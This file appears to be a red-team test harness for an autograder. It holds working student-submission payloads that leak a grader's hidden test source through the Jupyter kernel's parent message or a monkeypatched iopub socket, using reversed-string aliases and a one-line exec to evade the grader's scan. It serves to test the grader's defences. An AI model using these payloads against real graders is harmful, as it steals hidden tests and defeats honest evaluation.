"""Red team round 16 (hostile): with F8's one-line cell, an answer reads the running test cell's whole source
(hidden tests included) from the kernel's parent message and copies it, base64-encoded, to the feedback page.

    timeout 1800 python tests/redteam/round16/hostile/feedback_exfil.py [--plain | --alias | --iopub]

With --plain, Part 3's answer is an ordinary code cell: `import builtins` and `builtins.get_ipython()` (F2's
route: the scan flags `get_ipython` only as a bare name), no automagic needed.

Scratch course, the instructor's workflow (release, collect, autograde, feedback), students `honest` (model
answers) and `spy` (model answers; Part 3's answer cell is one line, `time exec("...")`, defining a correct
`causal_mask` that prints `EXFIL<base64 of get_ipython().kernel.get_parent()["content"]["code"]>`).
Prints counts only: status and score, whether the page was written and flagged, how many hidden-test lines
(`feedback.chapter_hidden_lines`, the grader's own list) the decoded copies on spy's feedback page hold.
Nothing of the hidden tests is printed.
"""
from __future__ import annotations

import base64
import os
import re
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[3]
sys.path.insert(0, str(ROOT / "tests"))
CHAPTER = "02-scaled-attention"

CODE = '''import torch, base64, builtins
def causal_mask(t, s, offset):
    ip = builtins.get_ipython()
    try:
        parent = ip.kernel.get_parent("shell")
    except TypeError:
        parent = ip.kernel.get_parent()
    code = parent.get("content", {}).get("code", "")
    print("EXFIL<" + base64.b64encode(code.encode()).decode() + ">")
    return torch.arange(s)[None, :] <= (offset + torch.arange(t))[:, None]
'''


# the same through names the scan does not follow (02-attacks.py's FORGE2 route): for the lead's working tree of 09:40
ALIAS_CODE = '''import torch, base64, sys
s_alias = sys
def back(t):
    return t[::-1]
def causal_mask(t, s, offset):
    m = vars(s_alias)["modules"][back("__niam__")]
    k = getattr(vars(m)[back("nohtypi_teg")](), "kernel")
    parent = getattr(k, back("tnerap_teg"))("shell")
    code = parent.get("content", {}).get("code", "")
    print("EXFIL<" + base64.b64encode(code.encode()).decode() + ">")
    return torch.arange(s)[None, :] <= (offset + torch.arange(t))[:, None]
'''


# against the lead's working tree of 10:00 (the request's code blanked in the kernel): the code still leaves the
# kernel in the iopub `execute_input` message, sent before the code is blanked; a wrapper of the iopub socket's
# send_multipart (an instance attribute of the socket, not of the session) keeps a copy
IOPUB_CODE = '''import torch, base64, sys
s_alias = sys
def back(t):
    return t[::-1]
mods = vars(s_alias)["modules"]
m = mods[back("__niam__")]
ns = vars(m)
K = getattr(ns[back("nohtypi_teg")](), "kernel")
sock = getattr(K, back("tekcos_buopi"))
real = getattr(sock, "send_multipart")
captured = []
def spy(parts, *a, **kw):
    try:
        blob = b"".join(p if isinstance(p, bytes) else bytes(p) for p in parts)
        if b"execute_input" in blob:
            captured.append(blob)
    except Exception:
        pass
    return real(parts, *a, **kw)
setattr(sock, "send_multipart", spy)
def causal_mask(t, s, offset):
    if captured:
        print("EXFIL<" + base64.b64encode(captured[-1]).decode() + ">")
    return torch.arange(s)[None, :] <= (offset + torch.arange(t))[:, None]
'''


def one_line(code):
    return '"' + code.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n").replace(" ", "\\x20") + '"'


def main():
    from grading import write_submission
    from instructor_course import cli, copy_course
    from attnlab.instructor import feedback as fb

    with tempfile.TemporaryDirectory(prefix="rt16h-exfil-") as tmp:
        tmp = Path(tmp)
        root = copy_course(tmp / "course")
        os.environ["ATTNLAB_COURSE_ROOT"] = str(root)
        os.environ.pop("ATTNLAB_GRADEBOOK_URL", None)
        assert cli("release")[0] == 0
        write_submission(CHAPTER, tmp / "download" / "honest_exercises.ipynb", {})
        spy = (CODE if "--plain" in sys.argv else ALIAS_CODE if "--alias" in sys.argv else IOPUB_CODE if "--iopub" in sys.argv
               else "time exec(" + one_line(CODE) + ")")
        write_submission(CHAPTER, tmp / "download" / "spy_exercises.ipynb", {"causal_mask": spy})
        print("collect", cli("collect", CHAPTER, str(tmp / "download"))[0])
        status, out, err = cli("autograde", CHAPTER, "--workers", "1")
        print("autograde", status)
        for line in out.splitlines():
            if line.startswith(("honest", "spy")):
                print("   ", line[:200])
        graded_nb = (root / "autograded" / "spy" / CHAPTER / "exercises.ipynb")
        graded_text = graded_nb.read_text() if graded_nb.is_file() else ""
        print("autograded notebook: EXFIL copies", graded_text.count("EXFIL<"), "| empty ones", graded_text.count("EXFIL<>"))
        status, out, err = cli("feedback", CHAPTER)
        print("feedback", status, "| leak notices:", out.count("hidden test"))
        page = root / "feedback" / "spy" / CHAPTER / "exercises.html"
        if not page.is_file():
            print("spy: no feedback page written")
            return
        text = page.read_text()
        blobs = re.findall(r"EXFIL&lt;([A-Za-z0-9+/=]+)&gt;|EXFIL<([A-Za-z0-9+/=]+)>", text)
        decoded = [base64.b64decode(a or b).decode("utf-8", "replace") for a, b in blobs]
        hidden = fb.chapter_hidden_lines(root, CHAPTER)
        hay = fb.squash("\n".join(decoded))
        found = [line for line in hidden if line in hay]
        print(f"spy's page: {len(blobs)} encoded copies, {len(decoded[0]) if decoded else 0} characters in the first; "
              f"{len(found)} of the chapter's {len(hidden)} hidden-test lines in them; "
              f"leak notice on the page: {fb.LEAK_NOTICE in text}")


if __name__ == "__main__":
    main()
